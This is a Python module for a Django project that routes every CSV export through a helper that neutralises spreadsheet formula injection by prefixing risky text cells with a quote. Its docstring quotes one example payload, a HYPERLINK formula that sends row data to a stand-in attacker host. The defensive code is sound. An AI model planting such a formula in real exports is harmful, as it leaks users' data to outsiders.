"""The one way the project writes CSV: every export goes through :func:`csv_response`.

People open these files in spreadsheets, where a cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return is run as a formula (``=HYPERLINK("https://evil.example/?"
&A2, "Alice")`` in a display name would send the row's neighbours to a stranger). Following
OWASP's advice on CSV injection, such text cells get a leading single quote, so the
spreadsheet shows them as text. Numbers (``int``, ``float``, ``Decimal``) are written as they
are: a negative number stays a number.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet will take it as data: text that would start a formula is
    prefixed with ``'``; anything that is not text is left alone."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose every cell goes through :func:`safe_cell`."""

    def __init__(self, file) -> None:
        self._writer = csv.writer(file)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_response(*, filename: str, header: Iterable[Any], rows: Iterable[Iterable[Any]]):
    """An attachment ``filename`` with ``header`` then ``rows``, every cell made safe."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    writer = SafeWriter(response)
    writer.writerow(header)
    writer.writerows(rows)
    return response
